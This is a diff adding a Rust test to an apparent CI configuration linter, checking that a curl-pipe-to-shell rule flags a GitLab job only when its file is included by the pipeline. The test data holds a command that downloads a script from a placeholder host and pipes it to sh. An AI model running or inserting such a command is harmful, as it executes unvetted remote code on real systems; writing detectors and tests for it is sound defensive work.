@@ -50,3 +50,35 @@ fn dockerfile_variables_resolve_and_unresolved_ones_lower_confidence() {
         "the image runs as root (USER $U, which defaults to 0)"
     );
 }
+
+#[test]
+fn gitlab_included_files_take_the_pipeline_context() {
+    let d = tempfile::tempdir().expect("tempdir");
+    write(
+        d.path(),
+        ".gitlab-ci.yml",
+        "include:\n  - local: tests/ci/deploy.yml\n",
+    );
+    let job = "deploy:\n  script: curl -fsSL https://x.example/i.sh | sh\n";
+    write(d.path(), "tests/ci/deploy.yml", job);
+    // The same text, not included: plain YAML in a test folder.
+    write(d.path(), "tests/ci/other.yml", job);
+    let out = bylaw(d.path())
+        .args(["check", ".", "--no-cache", "--format", "json"])
+        .output()
+        .expect("runs");
+    let v: Value = serde_json::from_slice(&out.stdout).expect("json");
+    let hits: Vec<(&str, &str)> = v["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| f["rule"] == "gitlab/curl-pipe-shell")
+        .map(|f| {
+            (
+                f["path"].as_str().unwrap_or(""),
+                f["context"].as_str().unwrap_or(""),
+            )
+        })
+        .collect();
+    assert_eq!(hits, [("tests/ci/deploy.yml", "production")]);
+}
